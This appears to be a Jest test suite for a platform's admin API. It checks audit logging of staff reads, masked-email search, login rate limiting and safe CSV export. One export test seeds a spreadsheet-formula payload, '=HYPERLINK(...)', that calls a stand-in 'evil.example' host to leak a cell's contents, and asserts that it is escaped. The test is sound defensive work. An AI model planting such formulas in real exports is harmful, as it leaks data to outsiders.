import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { EntityManager } from '@mikro-orm/postgresql';
import { PartnershipMessageEntity } from '@app/persistence';
import {
  adminGet,
  bearer,
  createTestStaff,
  STAFF_PASSWORD,
  type JourneyFixtures,
  type SignedInStaff,
  type TestApi,
  startJourneyApi,
} from '@test/api';

interface AuditRow {
  action: string;
  resource: string;
  record_id: string;
  after: Record<string, unknown> | null;
}

describe('admin API: what staff may see, and the record of it', () => {
  let api: TestApi;
  let fixtures: JourneyFixtures;
  let moderator: SignedInStaff;
  const em = () => api.app.get(EntityManager).fork();
  const as = () => bearer(moderator.token);
  const get = (path: string, query: Record<string, unknown> = {}) => adminGet(api, moderator.token, path, query);
  const auditSince = async (since: Date) =>
    em()
      .getConnection()
      .execute<AuditRow[]>(
        `select action, resource, record_id, after from audit_log where actor_id = ? and created_at >= ?
          order by created_at`,
        [moderator.id, since],
      );

  beforeAll(async () => {
    ({
      api,
      fixtures,
      staff: moderator,
    } = await startJourneyApi({ RATE_LIMIT_LOGIN_IP: '1000/60', TRUST_PROXY: 'true' }, 'moderator'));
  });
  afterAll(() => api.close());

  it('records one audit entry for each staff read of people’s records, with the search that was made', async () => {
    const person = await fixtures.person('Readable');
    const fork = em();
    const report = fixtures.storedAbuseReport(fork, { reporter: person.id });
    const application = fixtures.storedApplication(fork, {
      passport: 'http://localhost:3000/v1/files/none.png',
      cv: 'http://localhost:3000/v1/files/none.pdf',
    });
    const message = fork.create(PartnershipMessageEntity, {
      name: 'Eko Events',
      email: 'events@eko.example.com',
      description: 'Media',
    });
    const request = fixtures.storedRequest(fork, person.id);
    const feedback = fixtures.storedFeedback(fork, person.id, request);
    await fork.flush();

    const since = new Date();
    const listed = await get('users', { filter: { q: 'Readable' } }).expect(200);
    await get(`users/${person.id}`).expect(200);
    await get(`abuse-reports/${report.id}`).expect(200);
    await get(`advocate-applications`).expect(200);
    await get(`advocate-applications/${application.id}`).expect(200);
    await get(`partnership-messages/${message.id}`).expect(200);
    await get(`flagged-feedback/${feedback.id}`).expect(200);
    await get('money-donations').expect(200);
    await get('articles').expect(200);

    const entries = await auditSince(since);
    expect(entries.map((entry) => entry.action)).toEqual([
      'user.listed',
      'user.viewed',
      'abuse_report.viewed',
      'advocate_application.listed',
      'advocate_application.viewed',
      'partnership_message.viewed',
      'flagged_feedback.viewed',
      'money_donation.listed',
    ]);
    expect(entries[0]).toMatchObject({
      resource: 'users',
      record_id: '*',
      after: { filter: { q: 'Readable' }, ids: listed.body.map((row: { id: string }) => row.id) },
    });
    expect(entries[1]).toMatchObject({ resource: 'users', record_id: person.id });
    expect(entries[4]).toMatchObject({ resource: 'advocate-applications', record_id: application.id });
  });

  it('finds a user by a whole email address only, so substring searches cannot rebuild a masked one', async () => {
    const person = await fixtures.person('Masked');
    const email = 'zuri.hidden.person@example.org';
    await em().getConnection().execute(`update app_user set email = ? where id = ?`, [email, person.id]);
    const found = (q: string) =>
      get('users', { filter: { q } })
        .expect(200)
        .then((reply) => reply.body.map((row: { id: string }) => row.id) as string[]);

    // What a moderator tried: grow a guess one character at a time and watch whether the row still matches.
    for (const guess of ['zuri', 'zuri.hidden.person', '@example.org', 'example.org', email.slice(0, -1)])
      expect(await found(guess)).not.toContain(person.id);
    expect(await found(email.toUpperCase())).toEqual([person.id]);
    const byName = await get('users', { filter: { q: 'Masked' } }).expect(200);
    expect(byName.body).toEqual([expect.objectContaining({ id: person.id, email: 'z***@example.org' })]);
  });

  it('names what a change did in the audit log', async () => {
    const person = await fixtures.person('Acted');
    const fork = em();
    const report = fixtures.storedAbuseReport(fork, { reporterRole: 'donor', description: 'Rude' });
    await fork.flush();
    const since = new Date();
    await api.http().put(`/v1/admin/abuse-reports/${report.id}`).set(as()).send({ status: 'resolved' }).expect(200);
    await api
      .http()
      .post(`/v1/admin/users/${person.id}/suspend`)
      .set(as())
      .send({ until: new Date(Date.now() + 7 * 86_400_000).toISOString(), reason: 'Asked for money' })
      .expect(200);
    await api.http().post(`/v1/admin/users/${person.id}/reveal-contact`).set(as()).expect(200);
    expect((await auditSince(since)).map((entry) => entry.action)).toEqual([
      'abuse_report.resolved',
      'user.suspended',
      'user.contact_revealed',
    ]);
  });

  it('does not let five wrong passwords from another address lock a staff member out', async () => {
    const staff = await createTestStaff(api, 'moderator');
    const login = (password: string, ip: string) =>
      api.http().post('/v1/admin/auth/login').set('x-forwarded-for', ip).send({ email: staff.email, password });
    for (let attempt = 0; attempt < 5; attempt += 1)
      await login('a stranger guessing here', '198.51.100.7').expect(401);
    await login('a stranger guessing here', '198.51.100.7').expect(429);

    await login(STAFF_PASSWORD, '203.0.113.20').expect(200);
  });

  it('slows guessing from many addresses with growing waits instead of a lock-out', async () => {
    const staff = await createTestStaff(api, 'moderator');
    const login = (password: string, ip: string) =>
      api.http().post('/v1/admin/auth/login').set('x-forwarded-for', ip).send({ email: staff.email, password });
    for (let attempt = 0; attempt < 10; attempt += 1)
      await login('distributed guessing', `198.51.100.${attempt}`).expect(401);
    // The eleventh attempt takes the account's turn; the next must wait for it, wherever it comes from.
    await login('distributed guessing', '198.51.100.50').expect(401);
    const waiting = await login(STAFF_PASSWORD, '203.0.113.21').expect(429);
    expect(Number(waiting.headers['retry-after'])).toBeLessThanOrEqual(60);
  });

  it('exports a whole 1,000-row list as CSV with formula cells made harmless, and audits the export', async () => {
    const connection = em().getConnection();
    await connection.execute(`delete from partnership_message`);
    await connection.execute(
      `insert into partnership_message (id, name, email, description, created_at, updated_at)
       select gen_random_uuid(), 'Partner ' || n, 'p' || n || '@example.com', 'Plain text', now(), now()
         from generate_series(1, 999) as n`,
    );
    const fork = em();
    fork.create(PartnershipMessageEntity, {
      name: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
      email: 'formula@example.com',
      description: '+1+1',
    });
    await fork.flush();

    // What react-admin's export asked for: the list's maximum page stays 100.
    await get('partnership-messages', { range: [0, 999] }).expect(400);

    const since = new Date();
    const exported = await get('partnership-messages/export', { sort: ['created_at', 'DESC'] }).expect(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(exported.headers['content-disposition']).toMatch(/^attachment; filename="partnership-messages-.*\.csv"$/);
    const lines = exported.text
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines).toHaveLength(1001);
    expect(lines[0]).toBe('id,name,email,description,is_organization,status,notes,created_at,updated_at');
    const formula = lines.find((line) => line.includes('HYPERLINK'))!;
    expect(formula).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
    expect(formula).toContain(",'+1+1,");
    expect(formula).toContain('f***@example.com');
    expect(lines.some((line) => /(^|,)[=+\-@]/.test(line))).toBe(false);

    expect(await auditSince(since)).toEqual([
      expect.objectContaining({
        action: 'partnership_message.exported',
        resource: 'partnership-messages',
        after: { sort: ['created_at', 'DESC'], rows: 1000 },
      }),
    ]);
  });
});
